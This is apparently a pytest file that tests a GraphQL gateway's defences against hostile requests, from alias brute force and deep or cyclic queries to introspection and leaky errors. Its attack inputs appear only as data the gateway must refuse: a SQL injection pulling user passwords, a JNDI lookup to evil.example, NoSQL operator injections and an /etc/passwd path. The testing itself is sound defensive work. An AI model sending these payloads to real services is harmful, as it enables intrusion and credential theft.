"""Hostile cases M, GraphQL: B-297 … B-305, through real sockets."""

from __future__ import annotations

import hashlib
from typing import Any

import pytest
from tests.support.arena import request
from tests.support.graphql_shop import KNOWN, KNOWN_HASH, Shop, get, post
from tests.support.raw import Reply

LOGIN = 'login(name: "a", password: "p")'


def refuse(shop: Shop, raw: bytes, status: int = 400, code: str = "") -> Reply:
    """Nothing of it reaches the service, the record says why, and the answer tells no names."""
    reply = shop.refuse(raw, status, closed=False)
    if code:
        assert [each["code"] for each in reply.json()["errors"]] == [f"graphql-{code}"]
    return reply


def many(text: str, count: int) -> str:
    return " ".join(text.replace("%", str(number)) for number in range(count))


# --- B-297: aliases ------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [16, 100, 1_000])
def test_b297_gql_alias(graphql_shop: Shop, count: int) -> None:
    refuse(graphql_shop, post({"query": f"mutation {{ {many(f'a%: {LOGIN}', count)} }}"}))


def test_b297_gql_alias_spread_over_fragments(graphql_shop: Shop) -> None:
    fragments = many("fragment F% on Query { a%: on b%: on }", 8)
    refuse(graphql_shop, post({"query": f"{{ {many('...F%', 8)} }} {fragments}"}), code="aliases")


def test_b297_gql_alias_without_aliases(graphql_shop: Shop) -> None:
    refuse(graphql_shop, post({"query": f"{{ {many('on', 16)} }}"}), code="root-fields")
    spread = f"{{ {many('...F', 4)} }} fragment F on Query {{ {many('on', 4)} }}"
    refuse(graphql_shop, post({"query": spread}), code="root-fields")


def test_b297_gql_alias_each_login_counts(graphql_shop: Shop) -> None:
    key = graphql_shop.member
    asked = {"query": f"mutation {{ {many(f'a%: {LOGIN}', 3)} }}"}
    assert graphql_shop.send(post(asked, path="/limited", key=key)).status == 200
    reply = refuse(graphql_shop, post(asked, path="/limited", key=key), 429)
    assert reply.get("retry-after")


# --- B-298: batches ------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [1, 2, 500])
def test_b298_gql_batch(graphql_shop: Shop, count: int) -> None:
    refuse(graphql_shop, post([{"query": "{ on }"}] * count), code="batch")


@pytest.mark.parametrize("count", [0, 6, 500])
def test_b298_gql_batch_beyond_the_cap(graphql_shop: Shop, count: int) -> None:
    refuse(graphql_shop, post([{"query": "{ on }"}] * count, path="/batched"), code="batch")


def test_b298_gql_batch_of_mutations(graphql_shop: Shop) -> None:
    asked = [{"query": "{ on }"}, {"query": f"mutation {{ {LOGIN} }}"}]
    refuse(graphql_shop, post(asked, path="/batched"), code="mutation-in-batch")


def test_b298_gql_batch_shares_the_limits(graphql_shop: Shop) -> None:
    asked = [{"query": f"{{ {many('on', 4)} }}"}] * 4
    refuse(graphql_shop, post(asked, path="/batched"), code="root-fields")
    asked = [{"query": "{ books(first: 400) { id } }"}] * 3
    refuse(graphql_shop, post(asked, path="/batched"), code="cost")
    assert graphql_shop.send(post(asked[:2], path="/batched")).status == 200


# --- B-299: depth, cycles, multiplication --------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ("{ users { " + "books { author { " * 25 + "id" + " } }" * 25 + " } }", "depth"),
        ("{ users { " + "books { author { " * 40 + "id" + " } }" * 40 + " } }", "nesting"),
        ("{ users { " + "books { author { " * 5 + "id" + " } }" * 5 + " } }", "depth"),
        (
            (
                "{ users { ...A } } fragment A on User { books { author { ...B } } }"
                " fragment B on User { books { author { books { author { books { author { books {"
                " author { id } } } } } } } } }"
            ),
            "depth",
        ),
        ("{ ...A } fragment A on Query { ...A }", "fragment-cycle"),
        (
            (
                "{ ...A } fragment A on Query { users { ...B } }"
                " fragment B on User { books { author { ...B } } }"
            ),
            "fragment-cycle",
        ),
        (
            "{ users { ...F0 } } "
            + many("fragment F% on User { ...G% ...G% ...G% ...G% }", 1)
            + " fragment G0 on User { ...H ...H ...H ...H ...H ...H ...H ...H }"
            + " fragment H on User { ...I ...I ...I ...I ...I ...I ...I ...I }"
            + " fragment I on User { ...J ...J ...J ...J } fragment J on User { name }",
            "cost",
        ),
        (
            "{ users { ...F0 } } "
            + "".join(f"fragment F{n} on User {{ ...F{n + 1} }}" for n in range(30))
            + "fragment F30 on User { name }",
            "fragments",
        ),
        ("{ " + "__typename " * 5_000 + "}", "tokens"),
        ("{ users { " + "__typename " * 1_500 + "} }", "cost"),
        ("{ users { " + "name " * 900 + "} }", "invalid"),
        ("{ on " + "@skip(if: false) " * 3_000 + "}", "directives"),
        ("{ on(filter: " + "[" * 100 + "]" * 100 + ") }", "nesting"),
        ("{ books(first: 2000000000) { id } }", "cost"),
        ("{ books(first: 40) { reviews(first: 40) { text } } }", "cost"),
        ("{ books(page: {limit: 2000000000}) { id } }", "cost"),
        ("{ books(page: {limit: 40}) { reviews(first: 40) { text } } }", "cost"),
        ("query A(" + many("$a%: Int", 1_000) + ") { on }", "tokens"),
    ],
)
def test_b299_gql_depth(graphql_shop: Shop, query: str, code: str) -> None:
    refuse(graphql_shop, post({"query": query}), code=code)


@pytest.mark.parametrize(
    ("inside", "code"),
    [
        (many("... { id }", 251), "fragments"),
        (many("... { ... { id } }", 126), "fragments"),
        (many("...F", 251), "fragments"),
        # Fewer, but of fields that would have to be compared in pairs.
        (many("... on Book { id }", 100), "invalid"),
        (many("... on Book { id title } ... on Book { ... { title } }", 50), "invalid"),
        (many("author { ... { id } ... { id } }", 60), "invalid"),
        (many("id", 100), "invalid"),
        (many("...F%", 60), "invalid"),
    ],
)
def test_b299_gql_depth_fragments_that_cost_more_than_they_weigh(
    graphql_shop: Shop, inside: str, code: str
) -> None:
    fragments = many("fragment F% on Book { id }", 60) if "...F0" in inside else ""
    fragments = fragments or ("fragment F on Book { id }" if "...F" in inside else "")
    reply = refuse(
        graphql_shop, post({"query": f"{{ books {{ {inside} }} }} {fragments}"}), code=code
    )
    # Refused by counting, before a rule has looked at it.
    message = reply.json()["errors"]
    assert "line" not in str(message)


def test_b299_gql_depth_fragments_of_honest_clients_pass(graphql_shop: Shop) -> None:
    inside = many("... on Book { id title } ... on User { id name }", 15)
    query = f'{{ search(text: "a") {{ __typename {inside} }} }}'
    assert graphql_shop.ask(query, key=graphql_shop.admin).status == 200


def test_b299_gql_depth_at_the_limit_passes(graphql_shop: Shop) -> None:
    query = "{ users " + "{ books { author " * 4 + "{ name }" + " } }" * 4 + " }"
    assert graphql_shop.ask(query, key=graphql_shop.admin).status == 200
    deeper = "{ users " + "{ books { author " * 4 + "{ books { id } }" + " } }" * 4 + " }"
    refuse(graphql_shop, post({"query": deeper}, key=graphql_shop.admin), code="depth")


def test_b299_gql_depth_pages_by_variables(graphql_shop: Shop) -> None:
    query = "query A($n: Int) { books(first: $n) { reviews(first: $n) { text } } }"
    assert graphql_shop.ask(query, variables={"n": 20}).status == 200
    refuse(graphql_shop, post({"query": query, "variables": {"n": 200}}), code="cost")
    default = query.replace("$n: Int", "$n: Int = 200")
    refuse(graphql_shop, post({"query": default}), code="cost")
    query = "query A($p: Page) { books(page: $p) { reviews { text } } }"
    assert graphql_shop.ask(query, variables={"p": {"limit": 20}}).status == 200
    large = {"query": query, "variables": {"p": {"limit": 2_000}}}
    refuse(graphql_shop, post(large), code="cost")


def test_b299_gql_depth_sizes_in_lists(graphql_shop: Shop) -> None:
    # Each size was a step of a recursion, which copied all steps before it.
    def query(sizes: str) -> str:
        return f"query A($n: JSON) {{ books(where: {{first: [{sizes}]}}) {{ id }} }}"

    large = {"query": query("$n 2 " * 600), "variables": {"n": 1}}
    refuse(graphql_shop, post(large), code="cost")
    assert graphql_shop.ask(query("$n " * 600), variables={"n": 1}).status == 200


# --- B-300: introspection and suggestions --------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "{ __schema { types { name } } }",
        '{ __type(name: "Book") { name } }',
        "{ __schema\n{ types { name } } }",
        "{__schema#\n{types{name}}}",
        "{ on: __schema { types { name } } }",
        "{ ...F } fragment F on Query { x: __schema { types { name } } }",
        "{ ... on Query { ... { __schema @include(if: false) { types { name } } } } }",
        "query A { on } query B { __schema { types { name } } }",
        "\ufeff{ ,,, __schema ,{ types { name } } }",
    ],
)
def test_b300_gql_introspect(graphql_shop: Shop, query: str) -> None:
    asked = {"query": query, "operationName": "A"} if "query A" in query else {"query": query}
    refuse(graphql_shop, post(asked), 403)
    if "query A" not in query:
        refuse(graphql_shop, get(query), 403)


def test_b300_gql_introspect_suggestions(graphql_shop: Shop) -> None:
    reply = refuse(graphql_shop, post({"query": "{ boks { id } }"}), code="invalid")
    text = reply.body.decode().lower()
    assert "did you mean" not in text
    assert "books" not in text
    assert "boks" not in text
    assert "line 1, column 3" in text

    said = graphql_shop.ask("{ broken }").json()["errors"][0]["message"]
    assert said == "cannot read shelves."


# --- B-301: what a page of another site may send -------------------------------------------------


def test_b301_gql_get_mutation(graphql_shop: Shop) -> None:
    reply = refuse(graphql_shop, get(f"mutation {{ {LOGIN} }}"), 405)
    assert reply.get("allow") == "POST"
    both = f"query A {{ on }} mutation B {{ {LOGIN} }}"
    refuse(graphql_shop, get(both, operationName="B"), 405)
    assert graphql_shop.send(get(both, operationName="A")).status == 200


def test_b301_gql_get_mutation_where_get_is_not_taken(graphql_shop: Shop) -> None:
    refuse(graphql_shop, request("GET", "/members?query={on}"), 405)


@pytest.mark.parametrize("path", ["/graphql", "/loose"])
@pytest.mark.parametrize(
    ("media_type", "body"),
    [
        ("text/plain", b'{"query":"{ on }"}'),
        ("application/x-www-form-urlencoded", b"query={on}"),
        ("multipart/form-data; boundary=x", b"--x--\r\n"),
        ("application/graphql", b"{ on }"),
        ("", b'{"query":"{ on }"}'),
    ],
)
def test_b301_gql_get_mutation_in_other_types(
    graphql_shop: Shop, path: str, media_type: str, body: bytes
) -> None:
    lines = [f"Content-Type: {media_type}"] if media_type else []
    refuse(graphql_shop, request("POST", path, *lines, body=body), 415)


# --- B-302: which operation, which document ------------------------------------------------------

_TWO = 'query safe { on } mutation admin { addBook(book: {title: "x"}) { id } }'


def test_b302_gql_opname_the_selected_operation_is_judged(graphql_shop: Shop) -> None:
    assert graphql_shop.ask(_TWO, operationName="safe").json() == {"data": {"on": True}}
    refuse(graphql_shop, post({"query": _TWO, "operationName": "admin"}), 401)
    refuse(
        graphql_shop,
        post({"query": _TWO, "operationName": "admin"}, key=graphql_shop.member),
        403,
    )


@pytest.mark.parametrize(
    ("members", "code"),
    [
        ({"query": _TWO}, "operation-name"),
        ({"query": _TWO, "operationName": ""}, "operation-name"),
        ({"query": _TWO, "operationName": "other"}, "operation-name"),
        ({"query": "{ on }", "operationName": "other"}, "operation-name"),
        ({"query": _TWO, "operationName": ["safe"]}, "type"),
        ({"query": "query a { on } query a { books { id } }", "operationName": "a"},
         "duplicate-name"),
        ({"query": "{ on } { books { id } }"}, "duplicate-name"),
        ({"query": "{ on } query a { on }", "operationName": "a"}, "invalid"),
        ({"query": "{ on } fragment a on Query { on } fragment a on Query { on }"},
         "duplicate-name"),
        ({"query": "{ on }", "mutation": "x"}, "member"),
        ({"query": "{ on }", "extensions": {"tracing": True}}, "member"),
        ({"query": "subscription { sold { id } }"}, "subscription"),
        ({"query": "type Query { a: Int }"}, "not-executable"),
        ({"query": "extend type Query { a: Int } { on }"}, "not-executable"),
        ({"query": ""}, "syntax"),
        ({"query": "{ on"}, "syntax"),
        ({"query": "{ on } \u2028"}, "syntax"),
        ({"query": ["{ on }"]}, "type"),
        ({"variables": {}}, "type"),
    ],
)  # fmt: skip
def test_b302_gql_opname(graphql_shop: Shop, members: dict[str, Any], code: str) -> None:
    refuse(graphql_shop, post(members), code=code)


def test_b302_gql_opname_said_twice(graphql_shop: Shop) -> None:
    raw = b'{"query":"{ on }","query":"{ users { name } }"}'
    refuse(graphql_shop, request("POST", "/graphql", "Content-Type: application/json", body=raw))
    for name in (
        "query=%7Busers%7Bname%7D%7D",
        "operationName=admin",
        "variables=%7B%7D",
        # As readers spell it for themselves.
        "+query=%7Busers%7Bname%7D%7D",
        "Query=%7Busers%7Bname%7D%7D",
        "query[]=%7Busers%7Bname%7D%7D",
        "extensions[persistedQuery][version]=1",
    ):
        raw = request(
            "POST", f"/loose?{name}", "Content-Type: application/json", body=b'{"query":"{ on }"}'
        )
        refuse(graphql_shop, raw, code="member")


def _hashed(digest: object, **more: Any) -> dict[str, Any]:
    return {"extensions": {"persistedQuery": {"version": 1, "sha256Hash": digest}}, **more}


@pytest.mark.parametrize(
    "members",
    [
        _hashed(hashlib.sha256(b"{ users { name } }").hexdigest()),
        _hashed(hashlib.sha256(b"{ users { name } }").hexdigest(), query="{ users { name } }"),
        _hashed(KNOWN_HASH, query="{ users { name } }"),
        _hashed(KNOWN_HASH.upper(), query=KNOWN),
        _hashed(None),
        _hashed(KNOWN_HASH, variables={"id": "1", "admin": True}),
        _hashed(KNOWN_HASH, variables={"id": {"ne": 1}}),
        _hashed(KNOWN_HASH, variables={}),
        _hashed(KNOWN_HASH, operationName="Other", variables={"id": "1"}),
        {"extensions": {"persistedQuery": {"version": 2, "sha256Hash": KNOWN_HASH}}},
        {"extensions": {"persistedQuery": KNOWN_HASH}},
    ],
)
def test_b302_gql_opname_persisted(graphql_shop: Shop, members: dict[str, Any]) -> None:
    refuse(graphql_shop, post({"variables": {"id": "1"}, **members}))


def test_b302_gql_opname_persisted_where_none_are(graphql_shop: Shop) -> None:
    members = _hashed(KNOWN_HASH, variables={"id": "1"})
    refuse(graphql_shop, post(members, path="/batched"), code="persisted")


# --- B-303: generic roots ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        '{ node(id: "Qm9vazox") { id } }',
        '{ nodes(ids: ["Qm9vazox"]) { id } }',
        '{ on: node(id: "Qm9vazox") { ... on Book { title } } }',
        '{ ...F } fragment F on Query { node(id: "1") { id } }',
    ],
)
def test_b303_gql_node(graphql_shop: Shop, query: str) -> None:
    refuse(graphql_shop, post({"query": query}, key=graphql_shop.admin), 403)


@pytest.mark.parametrize("query", ["{ _service { sdl } }", "{ _entities { id } }"])
def test_b303_gql_node_of_a_federation(graphql_shop: Shop, query: str) -> None:
    refuse(graphql_shop, post({"query": query}))


def test_b303_gql_node_is_judged_by_type_where_it_is_declared(graphql_shop: Shop) -> None:
    query = '{ node(id: "1") { id } }'
    cost = '{ node(id: "1") { ... on Priced { supplierCost } } }'
    members = "/members"
    assert graphql_shop.ask(query, path=members, key=graphql_shop.admin).status == 200
    assert graphql_shop.ask(cost, path=members, key=graphql_shop.admin).status == 200
    refuse(graphql_shop, post({"query": query}, path=members, key=graphql_shop.member), 403)


# --- B-304: variables ----------------------------------------------------------------------------

_ADD = "mutation A($book: NewBook!) { addBook(book: $book) { id } }"


@pytest.mark.parametrize(
    ("query", "variables"),
    [
        ("{ on }", {"extra": 1}),
        ("query A($n: Int) { books(first: $n) { id } }", {"n": 1, "isAdmin": True}),
        ("query A($n: Int) { books(first: $n) { id } }", {"n": "1"}),
        ("query A($n: Int) { books(first: $n) { id } }", {"n": 1.5}),
        ("query A($n: Int) { books(first: $n) { id } }", {"n": 2**31}),
        ("query A($n: Int) { books(first: $n) { id } }", {"n": True}),
        ("query A($t: String) { books(title: $t) { id } }", {"t": {"$ne": ""}}),
        ("query A($t: String) { books(title: $t) { id } }", {"t": ["a"]}),
        ("query A($t: String) { books(title: $t) { id } }", {"t": 1}),
        ("query A($id: ID!) { book(id: $id) { id } }", {"id": None}),
        ("query A($id: ID!) { book(id: $id) { id } }", {"id": {"gt": ""}}),
        ("query A($d: Date) { on(day: $d) }", {"d": {"$gt": ""}}),
        ("query A($d: Date) { on(day: $d) }", {"d": ["2026-01-01"]}),
        ("query A($f: Upload) { on(file: $f) }", {"f": "x"}),
        ("query A($f: Upload) { on(file: $f) }", {"f": {"path": "/etc/passwd"}}),
        ("{ on(day: {a: 1}) }", {}),
        ('{ on(file: "x") }', {}),
        ("query A($j: JSON) { on(filter: $j) }", {"j": [1] * 1_990 + [[1] * 20]}),
        ("query A($j: JSON) { on(filter: $j) }", {"j": [[1] * 100] * 100}),
        (_ADD, {"book": {"title": "x", "supplierCost": 0}}),
        (_ADD, {"book": {"title": 1}}),
        (_ADD, {"book": {"title": "x", "tags": [{"a": 1}]}}),
        (_ADD, {"book": {}}),
        (_ADD, {}),
        ('{ books(title: "a", admin: true) { id } }', {}),
        ('{ books(first: "1") { id } }', {}),
    ],
)
def test_b304_gql_var_type(graphql_shop: Shop, query: str, variables: dict[str, Any]) -> None:
    raw = post({"query": query, "variables": variables}, key=graphql_shop.admin)
    refuse(graphql_shop, raw)


def test_b304_gql_var_type_good_values_pass(graphql_shop: Shop) -> None:
    for query, variables in (
        ("query A($d: Date) { on(day: $d) }", {"d": "2026-01-01"}),
        ("query A($j: JSON) { on(filter: $j) }", {"j": {"title": {"contains": ["a", 1]}}}),
        (_ADD, {"book": {"title": "x", "tags": ["a"], "pages": 3}}),
    ):
        reply = graphql_shop.ask(query, variables=variables, key=graphql_shop.admin)
        assert reply.status == 200, query


_SQL = "x' UNION SELECT name, password FROM users --"


@pytest.mark.parametrize(
    "members",
    [
        {"query": "query A($t: String) { books(title: $t) { id } }", "variables": {"t": _SQL}},
        {"query": f'{{ books(title: "{_SQL}") {{ id }} }}'},
        {"query": f'{{ books(title: """{_SQL}""") {{ id }} }}'},
        {"query": '{ books(title: "' + _SQL.replace("'", "\\u0027") + '") { id } }'},
        {"query": "{ on } # ${jndi:ldap://evil.example/a}"},
        {
            "query": "query A($j: JSON) { on(filter: $j) }",
            "variables": {"j": {"deep": [{"note": _SQL}]}},
        },
    ],
)
def test_b304_gql_var_type_attacks_in_free_text(
    graphql_shop: Shop, members: dict[str, Any]
) -> None:
    graphql_shop.gateway.new_records()
    reply = graphql_shop.send(post(members))
    assert reply.status == 403
    assert reply.json()["type"].endswith("content-refused")
    (record,) = graphql_shop.gateway.new_records()
    assert record["reason"].startswith("inspect.")
    at = record["findings"][0]["at"]
    assert at.startswith("/variables/") if "variables" in members else at.startswith("/query/")
    if "variables" not in members:
        assert graphql_shop.send(get(members["query"])).status == 403


# --- B-305: what errors tell ---------------------------------------------------------------------


def test_b305_gql_err(graphql_shop: Shop) -> None:
    for reply in (
        graphql_shop.ask("{ broken }"),
        graphql_shop.send(get("{ broken }")),
        graphql_shop.send(post([{"query": "{ broken }"}], path="/batched")),
    ):
        said = reply.json()
        (answer,) = said if isinstance(said, list) else [said]
        assert answer == {
            "errors": [
                {
                    "message": "cannot read shelves.",
                    "locations": [{"line": 1, "column": 3}],
                    "path": ["broken"],
                    "extensions": {"code": "INTERNAL"},
                }
            ],
            "data": {"broken": None},
        }
        for word in (b"srv", b'shelves"', b"SELECT", b"tracing", b"stacktrace"):
            assert word not in reply.body.replace(b"cannot read shelves", b"")
